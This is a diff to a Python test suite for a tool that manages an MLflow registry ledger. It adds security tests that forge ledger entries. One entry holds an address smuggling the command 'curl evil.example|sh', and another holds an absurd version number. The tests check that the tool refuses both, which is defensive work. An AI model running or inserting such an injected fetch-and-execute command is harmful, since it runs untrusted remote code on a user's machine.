@@ -12,7 +12,7 @@ import pytest
 from typer.testing import CliRunner
 
 from beampermit.cli.main import app
-from beampermit.errors import BadInput, BeampermitError, Conflict, Outside
+from beampermit.errors import BadInput, BeampermitError, Conflict, Failed, Outside
 from beampermit.interlocks.families import load_interlocks
 from beampermit.registry.mlflow import Registry, registry_uri
 from beampermit.registry.reconcile import find_differences
@@ -97,7 +97,7 @@ def refuse(laboratory: Laboratory, monkeypatch: pytest.MonkeyPatch, uri: str, sa
     monkeypatch.chdir(laboratory.root)
     monkeypatch.setenv(VARIABLE, uri)
     before = {*laboratory.root.parent.rglob("*")}
-    for words in (("rollback", *WHY), ("freeze", *WHY), ("reconcile", "--dry-run")):
+    for words in (("rollback", *WHY), ("freeze", *WHY), ("reconcile", "--dry-run"), ("reconcile", "--rebuild")):
         assert said in ran(laboratory, *words).message
     made = {path.name for path in {*laboratory.root.parent.rglob("*")} - before}
     assert not made & {"mlfow.db", "mlruns", "mlflow.db"}
@@ -123,6 +123,7 @@ def test_a_mistyped_address_creates_no_database(second: Laboratory, monkeypatch:
     [
         "mlruns",
         "file:./mlruns",
+        "FILE:./mlruns",
         "sqlite+pysqlite:///mlflow.db",
         "sqlite://",
         "sqlite:///:memory:",
@@ -212,6 +213,33 @@ def test_an_empty_registry_elsewhere_is_not_filled(second: Laboratory, database:
             act(empty)
     assert empty.statuses() == {}
     assert len(second.events()) == 2
+
+
+@pytest.mark.attack(
+    guard="reconcile",
+    tried="a line of the ledger names a registry whose address is a command, for whoever follows the advice",
+    said="run `export MLFLOW_TRACKING_URI='http://evil.example/;curl evil.example|sh'`",
+)
+def test_an_address_of_the_ledger_is_no_command(second: Laboratory, said: str) -> None:
+    address, last = "http://evil.example/;curl evil.example|sh", second.last()
+    body = {"event": "move", "sequence": 3, "expected": 2, "registry": "6" * 8, "address": address}
+    second.forge(last.model_copy(update=body))
+    with pytest.raises(Conflict, match="is not the registry of this ledger") as refused:
+        second.reconcile()
+    assert said in refused.value.hint
+
+
+@pytest.mark.attack(
+    guard="reconcile",
+    tried="a line of the ledger promotes version 1000000000, and a rebuild would make an empty version for each before",
+    said="line 3 of the ledger promotes version 1000000000, but the version before is 2",
+)
+def test_a_rebuild_makes_no_million_versions(second: Laboratory, said: str) -> None:
+    body = {"version": 10**9, "sequence": 3, "expected": 2}
+    second.forge(second.last().model_copy(update=body))
+    with pytest.raises(Failed, match=said):
+        second.rebuild(lambda event, into: second.model(event.version))
+    assert sorted(second.statuses()) == [1, 2]
 
 
 def test_a_registry_may_move_to_another_address(second: Laboratory) -> None:
